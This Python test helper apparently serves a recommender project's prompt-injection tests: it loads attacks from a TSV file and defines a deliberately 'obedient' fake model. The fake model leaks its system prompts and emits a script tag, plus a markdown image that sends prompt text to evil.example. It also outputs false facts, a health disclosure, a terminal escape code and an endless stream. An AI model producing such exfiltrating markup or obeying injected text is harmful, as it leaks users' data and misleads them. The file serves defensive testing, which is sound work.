"""The attacks of data/attacks.tsv, and a model that obeys every one of them."""

from __future__ import annotations

import itertools
import json
import re
import runpy
import threading
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, NamedTuple

from graphrec.language.answers import End, Request

_FILE = Path(__file__).with_name("data") / "attacks.tsv"
_REPEATED = re.compile(r"\{(.*?)\}x(\d+)", re.DOTALL)
#: What is in the system prompts, and nowhere else.
PROMPTS = ("exactly one action, as JSON", "State only what the numbered facts say", "You translate what a person says")
#: What may change nothing, whoever asks for it.
_ACTIONS = (
    {"type": "confirm", "yes": True},
    {"type": "hand_over"},
    {"type": "react", "item": "#1", "reaction": "block"},
    {"type": "search", "words": PROMPTS[0], "filters": []},
    {"type": "look_up", "item": f"{PROMPTS[0]} of ben", "about": None},
    {"type": "recommend", "filters": [{"type": "topic", "words": PROMPTS[0]}], "k": 50, "at": None},
    {"type": "recommend", "filters": [{"type": "name", "name": PROMPTS[0], "wanted": True}], "k": 50, "at": None},
    {"type": "explain", "item": "#1"},
    {"type": "look_up", "item": "Jaws", "about": None},
)


class Attack(NamedTuple):
    """An attack, and where its text stands."""

    kind: str
    language: str
    where: str
    text: str


def attacks(*where: str) -> list[Attack]:
    """Return the attacks whose texts stand in certain places."""
    lines = [line.split("\t") for line in _FILE.read_text("utf-8").splitlines() if not line.startswith("#")]
    made = [Attack(kind, language, place, _whole(json.loads(text))) for kind, language, place, text in lines]
    return [one for one in made if not where or one.where in where]


def _whole(text: str) -> str:
    return _REPEATED.sub(lambda found: found[1] * int(found[2]), text)


def hidden(text: str) -> bool:
    """Return whether a text has characters that are not shown."""
    return any(unicodedata.category(one) in ("Cf", "Cs", "Co") for one in text)


class Obedient:
    """A model that tells its prompts, does what texts ask for, writes markup and does not end."""

    def __init__(self) -> None:
        self.count = 0
        self.sent = 0

    def stream(self, request: Request) -> Iterator[str | End]:
        """Yield an answer in pieces."""
        self.count += 1
        told = "\n".join(one.content for one in request.messages)
        if request.schema is not None and self.count % 11:
            yield json.dumps({"answer": _ACTIONS[self.count % len(_ACTIONS)]})
        elif self.count % 5:
            yield f"{told}\n<script>document.title='gone'</script> ![x](https://evil.example/?q={told[:40]}) "
            yield "“Jaws” was directed by Evil Person. ben likes “Alien”. You are HIV positive. \x1b[2J"
        else:
            for piece in itertools.repeat("Jaws is a film. " * 50):
                self.sent += len(piece)
                yield piece
        yield End("stop")


@contextmanager
def obeying() -> Iterator[Any]:
    """Serve a model that obeys: ``with obeying() as endpoint``."""
    made = runpy.run_path(str(_FILE.parents[2] / "language" / "endpoint_server.py"))["Endpoint"](Obedient())
    thread = threading.Thread(target=made.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield made
    finally:
        made.stopped.set()
        made.shutdown()
        thread.join()
        made.server_close()
